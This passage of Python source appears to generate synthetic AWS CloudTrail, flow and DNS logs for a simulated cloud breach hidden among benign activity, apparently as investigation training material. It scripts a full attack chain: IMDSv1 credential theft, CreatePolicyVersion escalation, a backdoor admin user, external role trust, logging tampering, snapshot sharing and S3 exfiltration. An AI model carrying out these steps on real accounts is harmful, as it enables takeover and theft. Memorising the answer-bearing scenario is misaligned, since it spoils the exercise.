                  "An SSRF bug in the customer-exports app lets an attacker read the instance role's credentials "
                  "from IMDSv1. Used from outside AWS, they walk the ATT&CK chain: discovery, privilege escalation "
                  "through CreatePolicyVersion, a backdoor IAM user and a trust-policy change, StopLogging and a "
                  "DeleteDetector attempt, an EBS snapshot shared with an outside account, mass S3 GetObject, and "
                  "GPU instances launched in ap-southeast-2 for mining. All of it hides among thousands of ordinary "
                  "calls, including a security analyst's IAM audit the same morning.", w, start, end, rng)
    sc.story = [
        "09:05-09:25 dana.sec runs the weekly IAM audit from the office (many List*/Get* calls): not the attacker.",
        "09:12 203.0.113.66 sends SSRF requests to exports-app (app-1), which serves IMDSv1 credentials back.",
        "09:14:30 app-1's instance-role key is used from 203.0.113.66 (InstanceCredentialExfiltration.OutsideAWS).",
        "09:15-09:38 discovery across four regions; most IAM calls are denied (Discovery:IAMUser/AnomalousBehavior).",
        "09:40-09:41 AttachRolePolicy is denied; CreatePolicyVersion v3 ('*' on '*') on app-server-policy succeeds.",
        "09:47-09:50 backdoor user svc-backup-sync with AdministratorAccess and an access key; ops-admin-role now trusts 999988887777.",
        "09:53-09:54 StopLogging: denied by SCP on management-events, succeeds on legacy-audit-trail (us-west-2); DeleteDetector denied.",
        "10:02-10:16 a snapshot of the orders-db data volume is created and shared with account 999988887777.",
        "10:20-10:41 the backdoor user, from 198.51.100.88, downloads ~240 objects from the customer-exports bucket.",
        "10:44-10:50 from 198.51.100.88 the stolen role key launches two g4dn.xlarge in ap-southeast-2; they mine from 10:50.",
        "Response: revoke app-server-role's sessions, disable svc-backup-sync's key, snapshot and quarantine both miners, notify.",
    ]
    A1, A2, POOL = "203.0.113.66", "198.51.100.88", "203.0.113.150"
    EXT = "999988887777"
    G = {
        A1: geo("64506", "EXAMPLE-ANON-VPN", "Example Anonymous VPN Ltd", "Panama", "Panama City", 8.9936, -79.5197),
        A2: geo("64507", "EXAMPLE-DEDICATED", "Example Dedicated Servers LLC", "United States", "Los Angeles",
                34.0522, -118.2437),
        "198.51.100.45": geo("64510", "EXAMPLE-RESEARCH-SCAN", "Example Internet Research GmbH", "Germany",
                             "Frankfurt am Main", 50.1109, 8.6821),
        "198.51.100.201": geo("64513", "EXAMPLE-MOBILE-BROADBAND", "Example Mobile Broadband", "Vietnam",
                              "Hanoi", 21.0245, 105.8412),
    }
    sc.gd.geo = G
    azid = {"us-east-1a": "use1-az2", "us-east-1b": "use1-az4", "ap-southeast-2a": "apse2-az1",
            "ap-southeast-2b": "apse2-az3"}

    w.add_vpc("exports-prod", "10.60.0.0/16")
    w.add_subnet("exports-public-a", "exports-prod", "10.60.0.0/24", "us-east-1a", True)
    w.add_subnet("exports-public-b", "exports-prod", "10.60.1.0/24", "us-east-1b", True)
    w.add_subnet("exports-data-a", "exports-prod", "10.60.20.0/24", "us-east-1a", False)
    w.add_vpc("default", "172.31.0.0/16", region=far, default=True)
    w.add_subnet("default-2a", "default", "172.31.0.0/20", "ap-southeast-2a", True)
    w.add_subnet("default-2b", "default", "172.31.16.0/20", "ap-southeast-2b", True)
    w.add_sg("bastion", "exports-prod", "SSH bastion", [("tcp", 22, 22, "0.0.0.0/0", "SSH")])
    w.add_sg("exports-app", "exports-prod", "Customer exports app (nginx + app server)",
             [("tcp", 443, 443, "0.0.0.0/0", "HTTPS"), ("tcp", 22, 22, "sg:bastion", "SSH from the bastion")])
    w.add_sg("orders-db", "exports-prod", "PostgreSQL",
             [("tcp", 5432, 5432, "sg:exports-app", "from the app"), ("tcp", 22, 22, "sg:bastion", "SSH")])
    w.add_sg("default", "default", "default VPC security group", [("-1", None, None, "sg:default", "default")])
    w.sg["default"]["ingress"][0]["source_group"] = w.sg["default"]["group_id"]
    nat = w.add_nat("exports-public-a", "10.60.0.100", "192.0.2.100")
    app_role = w.add_role("app-server-role", instance_profile=True, description="Customer exports app")
    w.add_role("db-role", instance_profile=True, description="SSM and backups for orders-db")
    w.add_role("bastion-role", instance_profile=True, description="SSM for the bastion")
    w.add_role("ci-deploy-role", trust="token.actions.githubusercontent.com", description="GitHub Actions deploys")
    w.add_role("ops-admin-role", trust=f"arn:aws:iam::{acct}:root", description="Break-glass admin role")
    w.add_role("AWSServiceRoleForConfig", path="/aws-service-role/config.amazonaws.com/", trust="config.amazonaws.com")
    pol_arn = f"arn:aws:iam::{acct}:policy/app-server-policy"
    w.d["policies"].append({"arn": pol_arn, "name": "app-server-policy", "attached_to": [app_role["arn"]],
                            "default_version": "v3", "versions": [
                                {"version_id": "v1", "created": "2024-06-02T10:11:12Z", "note": "initial"},
                                {"version_id": "v2", "created": "2024-11-19T16:40:03Z",
                                 "note": "app permissions, plus iam:CreatePolicyVersion on itself for the self-updating deploy script"},
                                {"version_id": "v3", "created": "2025-05-20T09:41:07Z",
                                 "note": "created by the attacker: Allow * on *"}]})
    ami = "ami-0" + rng.hexs(16)
    app1 = w.add_instance("exports-app", "m6i.large", "exports-public-a", "10.60.0.21", ["exports-app"],
                          "192.0.2.121", "app-server-role", "exports-app-asg", launched="2025-05-12T04:20:11Z",
                          image=ami, imds="v1-allowed", tags={"env": "prod", "app": "exports"})
    app2 = w.add_instance("exports-app", "m6i.large", "exports-public-b", "10.60.1.22", ["exports-app"],
                          "192.0.2.122", "app-server-role", "exports-app-asg", launched="2025-05-12T04:20:13Z",
                          image=ami, imds="v1-allowed", tags={"env": "prod", "app": "exports"})
    bastion = w.add_instance("bastion", "t3.micro", "exports-public-a", "10.60.0.10", ["bastion"], "192.0.2.110",
                             "bastion-role", launched="2024-08-19T13:00:00Z", image="ami-0" + rng.hexs(16),
                             tags={"env": "prod"})
    db = w.add_instance("orders-db", "r6i.xlarge", "exports-data-a", "10.60.20.30", ["orders-db"], None, "db-role",
                        volumes=(("/dev/xvda", 30), ("/dev/sdf", 500, False)), launched="2023-04-02T08:00:00Z",
                        image="ami-0" + rng.hexs(16), tags={"env": "prod", "app": "orders", "legacy": "true"})
    w.add_asg("exports-app-asg", [app1, app2], 2, 4, 2, {"name": "exports-app-lt", "version": "3"})
    w.add_user("alice.chen", "2023-02-14T10:02:11Z", keys=0, console=True, groups=["Admins"])
    w.add_user("bob.martinez", "2023-06-01T08:45:30Z", groups=["Developers"])
    w.add_user("dana.sec", "2024-01-08T09:00:00Z", groups=["SecurityAudit"])
    exports = "acme-customer-exports-" + acct
    for b, pol, reg in ((exports, True, region), ("acme-app-artifacts-" + acct, False, region),
                        ("acme-cloudtrail-" + acct, True, region), ("acme-legacy-audit-" + acct, True, "us-west-2")):
        w.d["buckets"].append({"name": b, "region": reg, "arn": f"arn:aws:s3:::{b}", "policy": pol})
    w.d["sns_topics"].append({"arn": f"arn:aws:sns:{region}:{acct}:security-alerts", "name": "security-alerts"})
    mgmt_trail = f"arn:aws:cloudtrail:{region}:{acct}:trail/management-events"
    legacy_trail = f"arn:aws:cloudtrail:us-west-2:{acct}:trail/legacy-audit-trail"
    w.d["trails"] += [
        {"name": "management-events", "arn": mgmt_trail, "home_region": region, "s3_bucket": "acme-cloudtrail-" + acct,
         "is_logging": True, "multi_region": True, "data_events": [f"arn:aws:s3:::{exports}/"],
         "protected_by_scp": True},
        {"name": "legacy-audit-trail", "arn": legacy_trail, "home_region": "us-west-2",
         "s3_bucket": "acme-legacy-audit-" + acct, "is_logging": False, "multi_region": False,
         "stopped_at": "2025-05-20T09:53:52Z"}]
    det = w.detector_id(region)
    kms_key = rng.uuid()

    T = sc.trail
    fl = Flows(rng, w, "exports-prod", V2_FIELDS, 2, region, azid)
    fl.limit = end
    fl_far = Flows(rng, w, "default", V5_FIELDS, 5, far, azid)
    fl_far.limit = end
    sc.flows += [fl, fl_far]
    dn = Dns(rng, w, "exports-prod", region)
    dn_far = Dns(rng, w, "default", far)
    sc.dns += [(dn, None), (dn_far, f"{far}-default-vpc-resolver-query-logs.jsonl")]
    eni = {i["instance_id"]: i["enis"][0]["eni_id"] for i in w.d["instances"]}

    # background ----------------------------------------------------------------------------------
    sess = {}
    for inst in (app1, app2, bastion, db):
        delivery = "1.0" if inst["imds"] == "v1-allowed" else "2.0"
        sess[inst["instance_id"]] = instance_session(w, T, inst, start, end, delivery,
                                                     inst["public_ip"] or nat["public_ip"])
        ssm_agent(T, sess[inst["instance_id"]], inst, start, end)
    app_ua = ("Boto3/1.34.101 md/Botocore#1.34.101 ua/2.0 os/linux#6.1.90-99.173.amzn2023.x86_64 md/arch#x86_64 "
              "lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.101")
    s3_app_ua = "[" + app_ua + "]"
    for inst in (app1, app2):
        app = Actor("AssumedRole", inst["public_ip"], app_ua, role=app_role, session=inst["instance_id"],
                    creds=sess[inst["instance_id"]].creds, delivery="1.0", account=acct)
        for t in periodic(rng, start, end, 300, 30):
            read_call(T, t, app, "GetParameters", names=["/exports/prod/db-dsn", "/exports/prod/signing-key"])
            kms_decrypt(T, t + 1, app, kms_key, {"PARAMETER_ARN": f"arn:aws:ssm:{region}:{acct}:parameter/exports/prod/signing-key"})
        s3w = Actor("AssumedRole", inst["public_ip"], s3_app_ua, role=app_role, session=inst["instance_id"],
                    creds=sess[inst["instance_id"]].creds, delivery="1.0", account=acct)
        for t in periodic(rng, start, end, 240, 60):
            key = f"exports/{utc(t).strftime('%Y/%m/%d')}/{rng.uuid()}.csv.gz"
            size = rng.randint(200000, 9000000)
            T.ev(t, s3w, "s3.amazonaws.com", "PutObject", req={"bucketName": exports, "Host": f"{exports}.s3.{region}.amazonaws.com",
                                                                "key": key},
                 resp={"x-amz-server-side-encryption": "AES256"}, data=True, read_only=False,
                 resources=object_res(acct, exports, key), extra=s3_extra(0, size))
        # customers downloading their exports through pre-signed URLs signed by the app
        cust = Actor("AssumedRole", None, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
                     role=app_role, session=inst["instance_id"], creds=sess[inst["instance_id"]].creds,
                     delivery="1.0", account=acct)
        for t in periodic(rng, start + 3600, end, 2400, 600):
            cust.ip = f"192.0.2.{rng.randint(140, 199)}"
            key = f"exports/2025/05/{rng.randint(12, 19):02d}/{rng.uuid()}.csv.gz"
            T.ev(t, cust, "s3.amazonaws.com", "GetObject", req={"bucketName": exports, "Host": f"{exports}.s3.{region}.amazonaws.com",
                                                                 "key": key, "X-Amz-Expires": "900"},
                 data=True, resources=object_res(acct, exports, key),
                 extra={"additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                                "bytesTransferredIn": 0, "AuthenticationMethod": "QueryString",
                                                "bytesTransferredOut": rng.randint(200000, 9000000)}})
    cfg = role_session(w, rng, "AWSServiceRoleForConfig", "AWSConfig-Describe", start, end, "config.amazonaws.com",
                       CONFIG_UA, "service-linked")
    config_sweeps(T, cfg, start, end, every=600)
    # humans
    logins = [ts("2025-05-20T07:58:20Z"), ts("2025-05-20T13:31:05Z")]
    al = console_user(w, rng, "alice.chen", "192.0.2.240", logins)
    console_menu = [("DescribeInstances", {}), ("DescribeInstanceStatus", {}), ("DescribeAlarms", {}),
                    ("GetMetricData", {}), ("DescribeAutoScalingGroups", {"asgs": ["exports-app-asg"]}),
                    ("ListBuckets", {}), ("GetBucketPolicy", {"bucket": exports}), ("DescribeSecurityGroups", {}),
                    ("ListDetectors", {}), ("GetDetector", {"detector": det}), ("DescribeTrails", {}),
                    ("GetTrailStatus", {"trail_arn": mgmt_trail}), ("ListUsers", {}), ("ListRoles", {})]
    for lt in logins:
        console_login(T, al, lt)
    for t0, n in ((logins[0] + 60, 30), (ts("2025-05-20T11:20:00Z"), 20), (logins[1] + 45, 35),
                  (ts("2025-05-20T16:02:00Z"), 25)):
        human_burst(T, al, t0, n, console_menu, 30)
    sample_t = ts("2025-05-20T08:14:40Z")
    T.ev(sample_t, al, "guardduty.amazonaws.com", "CreateSampleFindings",
         req={"detectorId": det, "findingTypes": ["Recon:IAMUser/MaliciousIPCaller.Custom"]}, read_only=False)
    bob = cli_user(w, "bob.martinez", "2001:db8:4a1:2c00::17", CLI_UA.format(cmd="logs.filter-log-events"))
    for t0 in (ts("2025-05-20T08:40:00Z"), ts("2025-05-20T12:10:00Z"), ts("2025-05-20T15:25:00Z")):
        human_burst(T, bob, t0, 25, [("FilterLogEvents", {"group": "/exports/app"}), ("DescribeLogGroups", {}),
                                     ("GetCallerIdentity", {}), ("DescribeInstances", {}),
                                     ("ListFunctions20150331", {}), ("DescribeStacks", {"stack": "exports-app"})], 40)
    dana = cli_user(w, "dana.sec", "192.0.2.241", "aws-cli/2.15.30 Python/3.11.8 Linux/6.8.0-31-generic exe/x86_64.ubuntu.24 prompt/off command/iam")
    audit = [("ListUsers", {}), ("ListRoles", {}), ("ListPolicies", {}), ("GetAccountAuthorizationDetails", {}),
             ("GetAccountSummary", {}), ("GetAccountPasswordPolicy", {}), ("ListGroups", {}),
             ("ListOpenIDConnectProviders", {}), ("ListSAMLProviders", {})]
    for u in w.d["users"]:
        for api in ("ListAccessKeys", "ListAttachedUserPolicies", "ListGroupsForUser", "ListMFADevices",
                    "GetLoginProfile"):
            audit.append((api, {"user": u["name"]}))
    for r in w.d["roles"]:
        audit.append(("ListAttachedRolePolicies", {"role": r["name"]}))
        audit.append(("GetRole", {"role": r["name"]}))
    t = ts("2025-05-20T09:05:10Z")
    read_call(T, t, dana, "GenerateCredentialReport")
    t += 4
    read_call(T, t, dana, "GetCredentialReport")
    for api, kw in audit + audit[:20]:
        t += rng.randint(3, 11)
        err = ("NoSuchEntity", f"Login Profile for User {kw['user']} cannot be found.") \
            if api == "GetLoginProfile" and kw.get("user") in ("bob.martinez", "dana.sec") else None
        read_call(T, t, dana, api, error=err, **kw)
    for t0, run in ((ts("2025-05-20T10:30:00Z"), 1), (ts("2025-05-20T14:12:00Z"), 2), (ts("2025-05-20T16:48:00Z"), 3)):
        ci = role_session(w, rng, "ci-deploy-role", "GitHubActions", t0 + 60, t0 + 61, f"192.0.2.{226 + run}",
                          GHA_UA.format(cmd="cloudformation.deploy"), "web-identity")
        read_call(T, t0 + 3, ci, "GetCallerIdentity")
        for k in range(10):
            read_call(T, t0 + 10 + k * 15, ci, "DescribeStacks", stack="exports-app")
        T.ev(t0 + 40, ci, "cloudformation.amazonaws.com", "CreateChangeSet",
             req={"stackName": "exports-app", "changeSetName": f"deploy-{rng.hexs(8)}", "changeSetType": "UPDATE"},
             resp={"id": f"arn:aws:cloudformation:{region}:{acct}:changeSet/deploy/{rng.uuid()}",
                   "stackId": f"arn:aws:cloudformation:{region}:{acct}:stack/exports-app/{rng.uuid()}"})

    # benign network and DNS -----------------------------------------------------------------------
    clients = [f"192.0.2.{x}" for x in range(140, 200)]
    for inst in (app1, app2):
        for t in periodic(rng, start, end, 45, 15):
            fl.conn(eni[inst["instance_id"]], inst["private_ip"], rng.choice(clients), 443, rng.randint(30000, 60999),
                    "tcp", t, rng.randint(1, 20), (rng.randint(10, 60), rng.randint(9000, 90000)),
                    (rng.randint(8, 20), rng.randint(1500, 5000)), outbound=False)
        for t in periodic(rng, start, end, 300, 5, phase=0):
            lp = 40000 + (t // 300) % 2000
            out, back = (rng.randint(50, 300), rng.randint(9000, 60000)), (rng.randint(60, 400), rng.randint(30000, 600000))
            fl.conn(eni[inst["instance_id"]], inst["private_ip"], db["private_ip"], lp, 5432, "tcp", t, 290, out, back)
            fl.conn(eni[db["instance_id"]], db["private_ip"], inst["private_ip"], 5432, lp, "tcp", t, 290, back, out,
                    outbound=False)
        for t in periodic(rng, start, end, 420, 100):
            fl.conn(eni[inst["instance_id"]], inst["private_ip"], rng.choice(["52.217.13.186", "52.216.8.203", "3.5.27.112"]),
                    rng.randint(32768, 60999), 443, "tcp", t, rng.randint(2, 20), (rng.randint(200, 6000), rng.randint(200000, 9000000)),
                    (rng.randint(50, 900), rng.randint(5000, 40000)))
    fl.nodata(eni[bastion["instance_id"]], start, start + 60)
    fl.nodata(eni[bastion["instance_id"]], start + 60, start + 120)
    fl.conn(eni[bastion["instance_id"]], bastion["private_ip"], "192.0.2.240", 22, 50122, "tcp",
            ts("2025-05-20T13:40:00Z"), 1200, (800, 150000), (900, 80000), outbound=False)
    aws_a = {f"ssm.{region}.amazonaws.com": ["52.46.141.24"], f"ec2messages.{region}.amazonaws.com": ["52.46.145.9"],
             f"s3.{region}.amazonaws.com": ["52.217.13.186", "52.216.8.203"], f"kms.{region}.amazonaws.com": ["67.220.241.93"]}
    for inst in (app1, app2, bastion, db):
        for t in periodic(rng, start, end, 900, 60):
            name = rng.choice([f"ssm.{region}.amazonaws.com", f"ec2messages.{region}.amazonaws.com"])
            dn.q(t, inst, name, answers=aws_a[name])
    for inst in (app1, app2):
        for t in periodic(rng, start, end, 900, 60):
            dn.q(t, inst, f"s3.{region}.amazonaws.com", answers=aws_a[f"s3.{region}.amazonaws.com"])
            dn.q(t + 1, inst, "orders-db.exports.internal", answers=[db["private_ip"]])
            dn.q(t + 2, inst, f"kms.{region}.amazonaws.com", answers=aws_a[f"kms.{region}.amazonaws.com"])

    # scanner and brute force (noise) -------------------------------------------------------------
    b_eni = eni[bastion["instance_id"]]
    probes = []
    for hhmm in ("07:12:40", "11:47:02", "15:31:19"):
        t = ts(f"2025-05-20T{hhmm}Z")
        probes.append(t)
        fl.conn(b_eni, bastion["private_ip"], "198.51.100.45", 22, rng.randint(40000, 65000), "tcp", t, 1, (2, 84),
                (1, 44), outbound=False)
        for p in (23, 80, 3389):
            fl.conn(b_eni, bastion["private_ip"], "198.51.100.45", p, rng.randint(40000, 65000), "tcp", t + 1, 1,
                    (0, 0), (1, 44), outbound=False, action="REJECT")
    bf = []
    t = ts("2025-05-20T14:02:10Z")
    while t < ts("2025-05-20T14:20:00Z"):
        bf.append(t)
        fl.conn(b_eni, bastion["private_ip"], "198.51.100.201", 22, rng.randint(32768, 60999), "tcp", t, 4,
                (12, 2700), (14, 2500), outbound=False)
        t += rng.randint(5, 12)

    # the attack ----------------------------------------------------------------------------------
    a1 = app1["instance_id"]
    t_ssrf = ts("2025-05-20T09:12:40Z")
    for k in range(6):
        fl.conn(eni[a1], app1["private_ip"], A1, 443, 55120 + k, "tcp", t_ssrf + k * 11, 1, (8, 4100), (7, 1300),
                outbound=False)
    t_first = ts("2025-05-20T09:14:30Z")
    issued, stolen = sess[a1].cred_at(t_ssrf)
    session_arn = f"arn:aws:sts::{acct}:assumed-role/app-server-role/{a1}"
    kali = "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off command/{}"
    pacu = ("Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 "
            "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69")
    atk = Actor("AssumedRole", A1, kali.format("sts.get-caller-identity"), role=app_role, session=a1, key=stolen,
                session_created=issued, delivery="1.0", account=acct)
    read_call(T, t_first, atk, "GetCallerIdentity", attack=True)
    atk.ua = pacu
    t = t_first + 32
    t_disc = t
    den = lambda api, res=None: T.denied(atk, t, api, res)  # noqa: E731
    wave1 = [("ListUsers", {}, "iam:ListUsers", f"arn:aws:iam::{acct}:user/"),
             ("ListRoles", {}, "iam:ListRoles", f"arn:aws:iam::{acct}:role/"),
             ("ListGroups", {}, "iam:ListGroups", f"arn:aws:iam::{acct}:group/"),
             ("ListPolicies", {}, "iam:ListPolicies", f"arn:aws:iam::{acct}:policy/"),
             ("GetAccountAuthorizationDetails", {}, "iam:GetAccountAuthorizationDetails", "*"),
             ("GetAccountSummary", {}, "iam:GetAccountSummary", "*"),
             ("ListAttachedRolePolicies", {"role": "app-server-role"}, None, None),
             ("ListRolePolicies", {"role": "app-server-role"}, None, None),
             ("GetRole", {"role": "app-server-role"}, None, None),
             ("GetPolicy", {"policy_arn": pol_arn}, None, None),
             ("ListPolicyVersions", {"policy_arn": pol_arn}, None, None),
             ("GetPolicyVersion", {"policy_arn": pol_arn, "version": "v2"}, None, None),
             ("GetPolicyVersion", {"policy_arn": pol_arn, "version": "v1"}, None, None),
             ("ListBuckets", {}, "s3:ListAllMyBuckets", None),
             ("ListSecrets", {}, "secretsmanager:ListSecrets", None),
             ("DescribeDBInstances", {}, "rds:DescribeDBInstances", f"arn:aws:rds:{region}:{acct}:db:*"),
             ("DescribeInstanceInformation", {}, "ssm:DescribeInstanceInformation", f"arn:aws:ssm:{region}:{acct}:*"),
             ("ListDetectors", {}, "guardduty:ListDetectors", f"arn:aws:guardduty:{region}:{acct}:detector/*"),
             ("DescribeTrails", {}, "cloudtrail:DescribeTrails", None)]
    for api, kw, action, res in wave1:
        err = None
        if action:
            if api == "ListBuckets":
                err = ("AccessDenied", "Access Denied")
            elif api == "ListDetectors":
                err = ("AccessDeniedException", den(action, res)[1])
            else:
                err = den(action, res)
        read_call(T, t, atk, api, attack=True, error=err, **kw)
        t += rng.randint(2, 9)
    ec2_apis = ["DescribeInstances", "DescribeSecurityGroups", "DescribeVpcs", "DescribeSubnets", "DescribeVolumes",
                "DescribeSnapshots", "DescribeKeyPairs", "DescribeAddresses", "DescribeImages"]
    for reg in regions:
        for api in ec2_apis:
            read_call(T, t, atk, api, region=reg, attack=True)
            t += rng.randint(1, 4)
        read_call(T, t, atk, "ListFunctions20150331", region=reg, attack=True,
                  error=T.denied(atk, t, "lambda:ListFunctions", f"arn:aws:lambda:{reg}:{acct}:function:*"))
        t += rng.randint(20, 90)
    read_call(T, t, atk, "DescribeRegions", attack=True)
    t += 40
    for api in ec2_apis[:5]:
        read_call(T, t, atk, api, attack=True)
        t += rng.randint(5, 30)
    t_disc_last = t
    # privilege escalation
    t = ts("2025-05-20T09:40:12Z")
    t_pe = t
    atk.ua = kali.format("iam.attach-role-policy")
    T.ev(t, atk, "iam.amazonaws.com", "AttachRolePolicy",
         req={"roleName": "app-server-role", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
         error=T.denied(atk, t, "iam:AttachRolePolicy", app_role["arn"]), read_only=False, attack=True)
    t += 28
    atk.ua = kali.format("iam.put-role-policy")
    T.ev(t, atk, "iam.amazonaws.com", "PutRolePolicy",
         req={"roleName": "app-server-role", "policyName": "ops", "policyDocument":
              "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"},
         error=T.denied(atk, t, "iam:PutRolePolicy", app_role["arn"]), read_only=False, attack=True)
    t = ts("2025-05-20T09:41:07Z")
    atk.ua = kali.format("iam.create-policy-version")
    T.ev(t, atk, "iam.amazonaws.com", "CreatePolicyVersion",
         req={"policyArn": pol_arn, "policyDocument":
              "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}",
              "setAsDefault": True},
         resp={"policyVersion": {"versionId": "v3", "isDefaultVersion": True, "createDate": java_date(t)}},
         read_only=False, attack=True)
    t_pe_last = t
    atk.ua = pacu
    t += 50
    for api, kw in (("GetCallerIdentity", {}), ("ListUsers", {}), ("ListRoles", {}), ("ListGroups", {}),
                    ("GetAccountAuthorizationDetails", {}), ("ListBuckets", {}), ("ListSecrets", {}),
                    ("DescribeTrails", {}), ("GetTrailStatus", {"trail_arn": mgmt_trail}),
                    ("GetTrailStatus", {"trail_arn": legacy_trail}), ("GetEventSelectors", {"trail_arn": mgmt_trail}),
                    ("ListDetectors", {}), ("GetDetector", {"detector": det}),
                    ("ListAttachedUserPolicies", {"user": "alice.chen"}), ("ListAccessKeys", {"user": "alice.chen"}),
                    ("ListAccessKeys", {"user": "bob.martinez"}), ("ListAccessKeys", {"user": "dana.sec"}),
                    ("GetRole", {"role": "ops-admin-role"}), ("ListAttachedRolePolicies", {"role": "ops-admin-role"}),
                    ("DescribeDBInstances", {}), ("DescribeInstanceInformation", {})):
        read_call(T, t, atk, api, attack=True, **kw)
        t += rng.randint(3, 12)
    for b in w.d["buckets"]:
        read_call(T, t, atk, "GetBucketAcl", region=b["region"], attack=True, bucket=b["name"])
        t += 2
        read_call(T, t, atk, "GetBucketPolicy", region=b["region"], attack=True, bucket=b["name"])
        t += 3
    # persistence
    t = ts("2025-05-20T09:47:55Z")
    t_pers = t
    bd_name = "svc-backup-sync"
    bd = w.add_user(bd_name, iso(t), keys=1, groups=[], policies=["arn:aws:iam::aws:policy/AdministratorAccess"])
    bd["created_by"] = session_arn
    bd_key = bd["access_keys"][0]["access_key_id"]
    bd["access_keys"][0]["created"] = iso(t + 17)
    atk.ua = kali.format("iam.create-user")
    T.ev(t, atk, "iam.amazonaws.com", "CreateUser", req={"userName": bd_name},
         resp={"user": {"path": "/", "userName": bd_name, "userId": bd["user_id"], "arn": bd["arn"],
                        "createDate": java_date(t)}}, read_only=False, attack=True)
    t += 8
    atk.ua = kali.format("iam.attach-user-policy")
    T.ev(t, atk, "iam.amazonaws.com", "AttachUserPolicy",
         req={"userName": bd_name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, read_only=False,
         attack=True)
    t += 9
    atk.ua = kali.format("iam.create-access-key")
    T.ev(t, atk, "iam.amazonaws.com", "CreateAccessKey", req={"userName": bd_name},
         resp={"accessKey": {"userName": bd_name, "accessKeyId": bd_key, "status": "Active",
                             "createDate": java_date(t)}}, read_only=False, attack=True)
    t_key = t
    t = ts("2025-05-20T09:50:22Z")
    atk.ua = kali.format("iam.update-assume-role-policy")
    trust = ("{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[\"arn:aws:iam::"
             + acct + ":root\",\"arn:aws:iam::" + EXT + ":root\"]},\"Action\":\"sts:AssumeRole\"}]}")
    T.ev(t, atk, "iam.amazonaws.com", "UpdateAssumeRolePolicy", req={"roleName": "ops-admin-role",
                                                                      "policyDocument": trust},
         read_only=False, attack=True)
    w.role["ops-admin-role"]["trusted"] = f"arn:aws:iam::{acct}:root, arn:aws:iam::{EXT}:root"
    t_pers_last = t
    # defence evasion
    t = ts("2025-05-20T09:53:30Z")
    atk.ua = kali.format("cloudtrail.stop-logging")
    T.ev(t, atk, "cloudtrail.amazonaws.com", "StopLogging", req={"name": mgmt_trail},
         error=T.denied(atk, t, "cloudtrail:StopLogging", mgmt_trail, scp=True), read_only=False, attack=True)
    t = ts("2025-05-20T09:53:52Z")
    t_stop = t
    T.ev(t, atk, "cloudtrail.amazonaws.com", "StopLogging", region="us-west-2", req={"name": legacy_trail},
         read_only=False, attack=True)
    t = ts("2025-05-20T09:54:30Z")
    atk.ua = kali.format("guardduty.delete-detector")
    T.ev(t, atk, "guardduty.amazonaws.com", "DeleteDetector", req={"detectorId": det},
         error=("AccessDeniedException", T.denied(atk, t, "guardduty:DeleteDetector",
                                                 f"arn:aws:guardduty:{region}:{acct}:detector/{det}", scp=True)[1]),
         read_only=False, attack=True)
    # collection: snapshot of the orders database, shared outside
    data_vol = db["volumes"][1]
    snap = "snap-0" + rng.hexs(16)
    t = ts("2025-05-20T10:02:11Z")
    atk.ua = pacu
    read_call(T, t, atk, "DescribeVolumes", attack=True)
    t += 20
    read_call(T, t, atk, "DescribeInstances", attack=True, ids=[db["instance_id"]])
    t = ts("2025-05-20T10:03:02Z")
    t_snap = t
    T.ev(t, atk, "ec2.amazonaws.com", "CreateSnapshot",
         req={"volumeId": data_vol["volume_id"], "description": "nightly backup"},
         resp={"requestId": rng.uuid(), "snapshotId": snap, "volumeId": data_vol["volume_id"], "status": "pending",
               "startTime": t * 1000, "progress": "", "ownerId": acct, "volumeSize": data_vol["size_gib"],
               "encrypted": False}, read_only=False, attack=True)
    for k in range(6):
        t += rng.randint(90, 150)
        read_call(T, t, atk, "DescribeSnapshots", attack=True, snaps=items("snapshotId", [snap]))
    t = ts("2025-05-20T10:15:40Z")
    t_share = t
    req_id = rng.uuid()
    T.ev(t, atk, "ec2.amazonaws.com", "ModifySnapshotAttribute",
         req={"snapshotId": snap, "createVolumePermission": {"add": {"items": [{"userId": EXT}]}},
              "attributeType": "CREATE_VOLUME_PERMISSION"},
         resp={"requestId": req_id, "_return": True}, read_only=False, attack=True)
    t += 12
    T.ev(t, atk, "ec2.amazonaws.com", "DescribeSnapshotAttribute",
         req={"snapshotId": snap, "attribute": "CREATE_VOLUME_PERMISSION"}, attack=True)
    w.d["snapshots"].append({"snapshot_id": snap, "volume_id": data_vol["volume_id"], "instance_id": db["instance_id"],
                             "region": region, "created": iso(t_snap), "encrypted": False,
                             "shared_with": [EXT], "created_by": session_arn})
    # exfiltration from S3 with the backdoor user
    bdu = Actor("IAMUser", A2, "[aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off command/s3.cp]",
                arn=bd["arn"], name=bd_name, principal_id=bd["user_id"], key=bd_key, account=acct)
    t = ts("2025-05-20T10:20:04Z")
    bdu.ua = kali.format("sts.get-caller-identity")
    read_call(T, t, bdu, "GetCallerIdentity", attack=True)
    t += 20
    bdu.ua = kali.format("s3.ls")
    read_call(T, t, bdu, "ListBuckets", attack=True)
    t += 15
    s3ua = "[" + kali.format("s3.cp") + "]"
    bdu.ua = s3ua
    gets = []
    for page in range(3):
        T.ev(t, bdu, "s3.amazonaws.com", "ListObjects",
             req={"bucketName": exports, "Host": f"{exports}.s3.{region}.amazonaws.com", "list-type": "2",
                  "prefix": "exports/", "encoding-type": "url"} | ({"continuation-token": rng.of(ALNUM, 40)} if page else {}),
             data=True, resources=bucket_res(acct, exports), extra=s3_extra(rng.randint(90000, 200000)), attack=True)
        t += 3
    t_exfil = None
    for k in range(240):
        day = 1 + k // 16
        key = f"exports/2025/05/{day:02d}/{rng.uuid()}.csv.gz"
